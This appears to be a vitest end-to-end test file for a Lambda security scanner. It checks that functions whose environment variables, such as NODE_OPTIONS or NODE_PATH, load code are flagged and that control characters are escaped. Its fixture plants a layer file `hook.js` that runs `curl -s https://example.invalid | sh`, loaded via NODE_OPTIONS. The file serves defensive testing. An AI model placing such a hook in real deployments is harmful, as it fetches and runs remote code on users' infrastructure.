/**
 * End to end through the local AWS endpoint (real SDK clients over HTTP): a layer that passes
 * every check carries `nodejs/hook.js`, a file no package owns and Node never loads on its own.
 * A function that sets `NODE_OPTIONS=--require /opt/nodejs/hook.js` runs it before its handler;
 * before `function:environment` that function, and the layer, passed `lamina verify`.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ScanResult } from '../../../src/scan/result.js';
import type { Verdict } from '../../../src/verify/verdict.js';
import { startAwsLocal, type AwsLocal } from '@lamina/aws-local/testing';
import { runCli as lamina } from '../helpers/cli.js';

const HOME = '444444444444';
const R = 'us-east-1';
const fn = (name: string) => `arn:aws:lambda:${R}:${HOME}:function:${name}`;

const ESTATE = `
homeAccount: '${HOME}'
accounts:
  '${HOME}':
    accessKeys: [{ accessKeyId: AKIAENVIRONMENT00001, secretAccessKey: env-secret }]
    regions:
      ${R}:
        layers:
          - name: shared
            versions:
              - generate:
                  files:
                    nodejs/node_modules/left-pad/package.json: '{"name":"left-pad","version":"1.3.0","license":"MIT"}'
                    nodejs/node_modules/left-pad/index.js: 'module.exports = (s) => s;'
                    nodejs/hook.js: 'require("child_process").execSync("curl -s https://example.invalid | sh");'
        functions:
          - { name: clean, layers: ['shared:1'], environment: { variables: { TABLE: orders, TZ: UTC } } }
          - { name: hooked, layers: ['shared:1'], environment: { variables: { TABLE: orders, NODE_OPTIONS: '--require /opt/nodejs/hook.js' } } }
          - { name: traced, layers: ['shared:1'], environment: { variables: { AWS_LAMBDA_EXEC_WRAPPER: /opt/otel-instrument } } }
          - { name: sealed, layers: ['shared:1'], environment: { error: { errorCode: KMSAccessDeniedException, message: 'Lambda was unable to decrypt the environment variables' } } }
          - { name: escaped, layers: ['shared:1'], environment: { variables: { PYTHONPATH: "/opt/x\\e[2J" } } }
          - name: api
            layers: ['shared:1']
            versions:
              - { version: 1, layers: ['shared:1'], environment: { variables: { NODE_PATH: /tmp/modules } } }
`;

const POLICY = `version: 1
default: deny
layers:
  - match: { name: shared, account: ['${HOME}'] }
functions:
  - match: { name: traced }
    environment:
      allow:
        - { name: AWS_LAMBDA_EXEC_WRAPPER, values: [/opt/otel-instrument], reason: OpenTelemetry layer }
  - match: { account: ['${HOME}'] }
`;

let h: AwsLocal;
let policy: string;

beforeAll(async () => {
  h = await startAwsLocal(ESTATE);
  policy = await h.file('policy.yaml', POLICY);
});
afterAll(async () => {
  await h.close();
});

const environmentCheck = (v: Verdict | undefined) =>
  v?.checks.find((c) => c.id === 'function:environment');

describe('function:environment', () => {
  it('verify --all: each function and published version by its own variables, the layer passes', async () => {
    const r = await lamina([
      'verify',
      '--all',
      '--policy',
      policy,
      '--region',
      R,
      '--format',
      'json',
      ...h.awsFlags,
    ]);
    expect(r.code).toBe(1);
    const { verdicts } = JSON.parse(r.stdout) as { verdicts: Verdict[] };
    const byArn = new Map(verdicts.map((v) => [v.subject.arn, v]));
    const outcome = (arn: string) => environmentCheck(byArn.get(arn))?.outcome;

    // The layer holding the hook passes: nothing in it is a package's or runs unless named.
    const layer = verdicts.find((v) => v.subject.kind === 'layer');
    expect(layer?.ok).toBe(true);

    expect(outcome(fn('clean:$LATEST'))).toBe('pass');
    expect(byArn.get(fn('clean:$LATEST'))?.ok).toBe(true);
    expect(outcome(fn('hooked:$LATEST'))).toBe('fail');
    expect(environmentCheck(byArn.get(fn('hooked:$LATEST')))?.evidence).toEqual({
      variables: [{ name: 'NODE_OPTIONS', value: '--require /opt/nodejs/hook.js', allowed: false }],
    });
    expect(outcome(fn('traced:$LATEST'))).toBe('pass');
    expect(outcome(fn('sealed:$LATEST'))).toBe('fail');
    expect(environmentCheck(byArn.get(fn('sealed:$LATEST')))?.detail).toContain(
      'KMSAccessDeniedException'
    );
    // A published version keeps the variables it was published with.
    expect(outcome(fn('api:$LATEST'))).toBe('pass');
    expect(outcome(fn('api:1'))).toBe('fail');
    expect(environmentCheck(byArn.get(fn('api:1')))?.detail).toContain('NODE_PATH="/tmp/modules"');
  });

  it('verify --function reads the same from GetFunction', async () => {
    const hooked = await lamina(
      [
        'verify',
        '--function',
        'hooked',
        '--policy',
        policy,
        '--region',
        R,
        '--format',
        'json',
      ].concat(h.awsFlags)
    );
    expect(hooked.code).toBe(1);
    const v = (JSON.parse(hooked.stdout) as { verdicts: Verdict[] }).verdicts;
    expect(environmentCheck(v[0])?.outcome).toBe('fail');
    expect(v.filter((x) => x.subject.kind === 'layer').every((x) => x.ok)).toBe(true);

    for (const name of ['clean', 'traced']) {
      const ok = await lamina(
        ['verify', '--function', name, '--policy', policy, '--region', R].concat(h.awsFlags)
      );
      expect(ok.code, ok.stdout + ok.stderr).toBe(0);
      expect(ok.stdout).toContain('PASS function:environment');
    }
  });

  it("scan.json records each function version's loader variables, and nothing else", async () => {
    const out = join(h.dir, 'scan-out');
    const md = join(h.dir, 'scan-report.md');
    const r = await lamina(
      ['scan', '--region', R, '--output-dir', out, '--quiet', '--markdown', md].concat(h.awsFlags)
    );
    expect(r.code, r.stderr).toBe(0);
    const scan = JSON.parse(readFileSync(join(out, 'scan.json'), 'utf8')) as ScanResult;
    const env = Object.fromEntries(
      scan.functions.map((f) => [f.arn.split(':function:')[1], f.environment])
    );
    // One that sets none says so: a scan without the field did not record it.
    expect(env).toEqual({
      'api:$LATEST': { loaders: [] },
      'api:1': { loaders: [{ name: 'NODE_PATH', value: '/tmp/modules' }] },
      'clean:$LATEST': { loaders: [] },
      'escaped:$LATEST': { loaders: [{ name: 'PYTHONPATH', value: '/opt/x\u001b[2J' }] },
      'hooked:$LATEST': {
        loaders: [{ name: 'NODE_OPTIONS', value: '--require /opt/nodejs/hook.js' }],
      },
      'sealed:$LATEST': {
        unread: 'KMSAccessDeniedException: Lambda was unable to decrypt the environment variables',
      },
      'traced:$LATEST': {
        loaders: [{ name: 'AWS_LAMBDA_EXEC_WRAPPER', value: '/opt/otel-instrument' }],
      },
    });
    expect(readFileSync(join(out, 'scan.json'), 'utf8')).not.toContain('orders');
    // The text report lists them, escaped.
    expect(r.stdout).toContain('Functions whose environment makes the runtime load code (5;');
    expect(r.stdout).toContain('  api:1 (us-east-1)  NODE_PATH="/tmp/modules"');
    expect(r.stdout).toContain(
      '  hooked (us-east-1)  NODE_OPTIONS="--require /opt/nodejs/hook.js"'
    );
    expect(r.stdout).toContain(
      '  sealed (us-east-1)  variables not returned: KMSAccessDeniedException'
    );
    expect(r.stdout).not.toContain('\u001b');
    const report = readFileSync(md, 'utf8');
    expect(report).toContain('| Functions whose environment makes the runtime load code | 5 |');
    expect(report).toContain(
      '<code>hooked</code> | <code>us-east-1</code> | <code>NODE&#95;OPTIONS="--require /opt/nodejs/hook.js"</code>'
    );
  });

  it('the text report escapes control characters in a value', async () => {
    const r = await lamina(
      ['verify', '--function', 'escaped', '--policy', policy, '--region', R].concat(h.awsFlags)
    );
    expect(r.code).toBe(1);
    expect(r.stdout).toContain('FAIL function:environment');
    expect(r.stdout).toContain('PYTHONPATH=');
    expect(r.stdout).not.toContain('\u001b');
  });
});
